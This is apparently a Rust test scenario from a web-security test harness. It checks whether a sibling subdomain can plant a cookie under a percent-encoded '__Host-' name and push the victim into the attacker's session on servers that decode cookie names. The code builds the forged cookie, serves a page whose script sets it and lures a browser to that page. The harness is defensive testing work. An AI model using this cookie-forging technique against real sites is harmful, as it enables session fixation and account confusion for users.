//! A sibling subdomain forges a `__Host-` cookie by percent-encoding its name.
//!
//! The browser sees another name, without the prefix's rules, and takes it for the parent domain. A server that decodes
//! cookie names sees the session cookie twice, and many take the last.

use anyhow::{Context as _, Result, ensure};
use serde_json::json;

use crate::deployment::Architecture;
use crate::scenario::Bound::Exactly;
use crate::scenario::Expectation::{Holds, NotApplicable, Violated};
use crate::scenario::{Attacker, Control, MeasureDef, NO_APPLICATION, Scenario, Source, Verdict};
use crate::stage::Stage;

pub(super) const SCENARIO: Scenario = Scenario {
    id: "sess-prefix-decode",
    title: "Prefix forged by a percent-encoded name",
    property: "a cookie that a sibling subdomain sets never becomes the victim's session",
    attacker: Attacker::Sibling,
    steps: &[
        "the attacker signs in as bob on their own machine",
        "the victim signs in as alice",
        "the victim visits the sibling's page, which sets the cookie under a percent-encoded name for the parent domain",
        "the victim opens the application: whose session is it?",
    ],
    sources: &[Source::rfc10017("6.1.3.2"), Source::cve("CVE-2020-7070")],
    measures: &[MeasureDef::count(TAKEN, "sessions")],
    expect: |deployment| match deployment.architecture {
        Architecture::Provider => NO_APPLICATION,
        Architecture::Spa => NotApplicable("the page holds tokens, not a session cookie"),
        Architecture::Bff | Architecture::Tmb => match deployment.settings.bff.cookie.parser {
            bff_app::CookieParser::Raw => Holds(vec![(TAKEN, Exactly(0.0))]),
            bff_app::CookieParser::Decoding => Violated(vec![(TAKEN, Exactly(1.0))]),
        },
    },
    controls: &[Control { changes: &[("bff.cookie.parser", "decoding")] }],
    protocol: None,
    browser: Some(|stage| Box::pin(attempt(stage))),
};

const TAKEN: &str = "victims in the attacker's session";

async fn attempt(stage: &mut Stage) -> Result<Verdict> {
    let mut attacker = stage.bff_user();
    attacker.agent = stage.thief();
    attacker.sign_in("bob").await?;
    let cookie = attacker.session_cookies().into_iter().next().context("the attacker must have a session")?;
    let encoded = cookie.name.replacen("__", "%5F%5F", 1);
    ensure!(encoded != cookie.name, "the session cookie {} has no prefix to forge", cookie.name);
    let sibling = stage.testbed.origins.sibling.clone();
    let parent =
        sibling.host().split_once('.').map(|(_, parent)| parent.to_owned()).context("the sibling has a parent")?;
    let set = json!(format!("{encoded}={}; Domain={parent}; Path=/; Secure", cookie.value));
    stage
        .testbed
        .attacker
        .publish("forge", format!("<!doctype html><title>forge</title><script>document.cookie = {set};</script>"));

    let browser = stage.browser().await?;
    browser.sign_in("alice").await?;
    browser.lure(&format!("{sibling}/page/forge")).await?;
    let planted = browser.all_cookies().await?.iter().any(|cookie| cookie["name"] == encoded.as_str());
    ensure!(planted, "the browser must take the forged cookie, or nothing is learnt");
    browser.open_app().await?;
    let who = browser.read("return document.querySelector('#who').textContent;", vec![]).await?;
    let who = who.as_str().unwrap_or_default().to_lowercase();
    ensure!(!who.is_empty(), "the page must say who is signed in");
    let taken = who.contains("bob");
    Ok(Verdict::holds_if(!taken && who.contains("alice")).counting(TAKEN, usize::from(taken)))
}
